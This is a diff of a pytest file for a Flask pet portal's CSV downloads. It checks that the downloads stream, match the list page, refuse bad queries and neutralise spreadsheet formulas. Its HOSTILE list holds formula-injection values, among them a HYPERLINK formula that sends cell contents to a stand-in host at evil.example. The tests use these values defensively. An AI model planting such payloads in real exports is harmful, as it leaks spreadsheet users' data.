@@ -1,19 +1,27 @@
-"""The portal's CSV downloads share one writer: streamed, and a text a spreadsheet would run comes back with a
-leading ' (seen through an import's `results.csv`, against the real reference store).
+"""The CSV downloads, against the real reference stores: the animal list (`/animals.csv`), and what it shares
+with an import's `results.csv`.
+
+The list's download holds exactly the animals the list page shows for the same query, from one listPets call,
+and refuses what the page refuses. Every download is streamed, and a text a spreadsheet would run comes back
+with a leading '.
 """
 
 import csv
 import io
 from contextlib import contextmanager
+from pathlib import Path
 
 import pytest
-from flask import request_finished
+from flask import request_finished, template_rendered
 
 from petportal.downloads import spreadsheet_safe
+from petportal.extensions import db
+from petportal.processes import free_port
 
-from helpers import creates, finished, press, upload
+from helpers import creates, finished, post_form, press, upload
 
 BOM = "\ufeff"
+ANIMALS_HEADER = ["id", "name", "categoryId", "category", "status"]
 # What people (or a store's other clients) may name things, that a spreadsheet would run or mangle.
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
 # Names the import's own checks let through (they refuse control characters, and trim tabs).
@@ -27,6 +35,35 @@ def rows_of(response):
     return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
 
 
+def list_calls(store):
+    return [r.target for r in store.received if r.method == "GET" and r.target.startswith("/v1/pets?")]
+
+
+def label(admin, category_id, text):
+    response = post_form(
+        admin,
+        "/admin/categories",
+        "/admin/categories",
+        environment="production",
+        category_id=str(category_id),
+        label=text,
+    )
+    assert response.status_code == 303, response.text
+
+
+@contextmanager
+def shown_lists(app):
+    """The animals and labels each list page drawn meanwhile was given."""
+    seen = []
+
+    def keep(_sender, template, context, **_extra):
+        if template.name == "catalog/list.html" and context.get("animals") is not None:
+            seen.append((context["animals"], context["labels"]))
+
+    with template_rendered.connected_to(keep, app):
+        yield seen
+
+
 @contextmanager
 def sent_responses(app):
     """The Flask responses of the requests answered meanwhile, as the views and hooks made them."""
@@ -37,6 +74,149 @@ def sent_responses(app):
 
     with request_finished.connected_to(keep, app):
         yield seen
+
+
+def as_cells(animals, labels):
+    """The list page's animals as the download writes them."""
+    return [[str(a.id), a.name, str(a.category_id), labels.get(a.category_id, ""), a.status or ""] for a in animals]
+
+
+# --- the animal list ------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def stocked(portal_app, auth_for, production_store):
+    """The production store with a few more animals, two categories labelled ("Cats" for 2, "Dogs" for 1)."""
+    for name, category, status in [("Zoë", 2, "available"), ("Ziggy", 1, "pending"), ("Amber", 7, "available")]:
+        production_store.add(name, category, status)
+    admin = auth_for(portal_app, "admin")
+    label(admin, 1, "Dogs")
+    label(admin, 2, "Cats")
+    return portal_app
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "",
+        "status=available",
+        "status=pending",
+        "q=i",
+        "q=ZOE",
+        "sort=name",
+        "sort=category",
+        "sort=status",
+        "limit=2",
+        "limit=3&sort=name",
+        "status=available&q=e&sort=category&limit=50",
+    ],
+)
+def test_the_csv_holds_the_animals_the_list_shows_for_the_same_query_from_one_list_pets_call(
+    stocked, production_store, query
+):
+    anyone = stocked.test_client()
+    with shown_lists(stocked) as shown:
+        page = anyone.get(f"/animals?{query}")
+    assert page.status_code == 200
+    [(animals, labels)] = shown
+    page_calls = list_calls(production_store)
+    production_store.received.clear()
+
+    download = anyone.get(f"/animals.csv?{query}")
+    assert download.status_code == 200
+    assert list_calls(production_store) == page_calls and len(page_calls) == 1  # the same single listPets call
+    header, *rows = rows_of(download)
+    assert header == ANIMALS_HEADER
+    assert rows == as_cells(animals, labels)
+
+
+def test_the_csv_names_the_labelled_categories_and_leaves_the_others_empty(stocked):
+    _, *rows = rows_of(stocked.test_client().get("/animals.csv?sort=name"))
+    categories = {row[1]: (row[2], row[3]) for row in rows}
+    assert categories["Zoë"] == ("2", "Cats") and categories["Ziggy"] == ("1", "Dogs")
+    assert categories["Amber"] == ("7", "")
+    assert categories["Nibbles"] == ("4", "") and [row[4] for row in rows if row[1] == "Nibbles"] == [""]
+
+
+def test_the_csv_is_a_streamed_utf8_attachment_never_stored(portal_app, production_store):
+    production_store.add("Zoë", 2, "available")
+    with sent_responses(portal_app) as sent:
+        response = portal_app.test_client().get("/animals.csv")
+    assert [flask_response.is_streamed for flask_response in sent] == [True]
+    assert "Content-Length" not in response.headers
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="animals-production.csv"'
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.get_data().startswith(BOM.encode() + b"id,name,categoryId,category,status\r\n")
+    assert "Zoë" in [row[1] for row in rows_of(response)]
+
+
+def test_a_previewing_admin_downloads_the_environment_they_see(portal_app, auth_for, staging_store):
+    admin = auth_for(portal_app, "admin")
+    post_form(admin, "/admin/environment", "/admin/environment/preview", environment="staging")
+    response = admin.get("/animals.csv")
+    assert response.headers["Content-Disposition"] == 'attachment; filename="animals-staging.csv"'
+    assert [row[1] for row in rows_of(response)[1:]] == ["Staging Sam"]
+
+
+def test_names_and_labels_a_spreadsheet_would_run_come_back_as_text(portal_app, auth_for, production_store):
+    production_store.received.clear()
+    for name in HOSTILE:
+        production_store.add(name, -2, "sold")
+    label(auth_for(portal_app, "admin"), -2, "=1+1")
+    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
+    hostile = [row for row in rows if row[2] == "-2"]
+    assert sorted(row[1] for row in hostile) == sorted("'" + name for name in HOSTILE)
+    # The category id stays the number it is; the label is text like any other.
+    assert {(row[2], row[3]) for row in hostile} == {("-2", "'=1+1")}
+
+
+@pytest.mark.parametrize(
+    "query, reason",
+    [
+        ("limit=0", "Choose a number from 1 to 100."),
+        ("limit=101", "Choose a number from 1 to 100."),
+        ("limit=abc", "Choose a number from 1 to 100."),
+        ("limit=%D9%A1", "Choose a number from 1 to 100."),  # an Arabic-Indic 1
+        ("status=bogus", "Not a valid choice"),
+        ("sort=bogus", "Not a valid choice"),
+        ("q=" + "x" * 101, "Search with at most 100 characters."),
+        ("q=a%00b", "must not contain control characters"),
+    ],
+)
+def test_a_query_the_list_refuses_gets_a_400_saying_why_and_asks_nothing_of_the_store(
+    client, production_store, query, reason
+):
+    assert client.get(f"/animals?{query}").status_code == 400
+    response = client.get(f"/animals.csv?{query}")
+    assert response.status_code == 400
+    assert "The animals cannot be downloaded for this query." in response.text
+    assert reason in response.text
+    assert "Content-Disposition" not in response.headers
+    assert list_calls(production_store) == []
+
+
+def test_a_store_that_is_down_or_refuses_the_key_gets_the_list_pages_own_answer(make_portal, staging_store):
+    down = make_portal.over(f"http://127.0.0.1:{free_port()}/v1", staging_store.url)
+    # The staging store does not know the production key.
+    refusing = make_portal.over(staging_store.url, staging_store.url)
+    for app, status in ((down, 503), (refusing, 502)):
+        anyone = app.test_client()
+        page, download = anyone.get("/animals"), anyone.get("/animals.csv")
+        assert page.status_code == download.status_code == status
+        assert download.mimetype == "text/html" and "Content-Disposition" not in download.headers
+
+
+def test_customers_keep_downloading_the_list_while_the_portals_database_is_down(make_portal):
+    app = make_portal()
+    with app.app_context():
+        database = Path(db.engine.url.database)
+        db.engine.dispose()
+    database.unlink()
+    database.mkdir()  # a database that cannot be opened, as a server that went away
+    response = app.test_client().get("/animals.csv")
+    assert response.status_code == 200
+    assert [row[1] for row in rows_of(response)[1:]] == ["Rex", "Mittens", "Goldie", "Nibbles"]
 
 
 # --- what every download shares ---------------------------------------------------------------------------
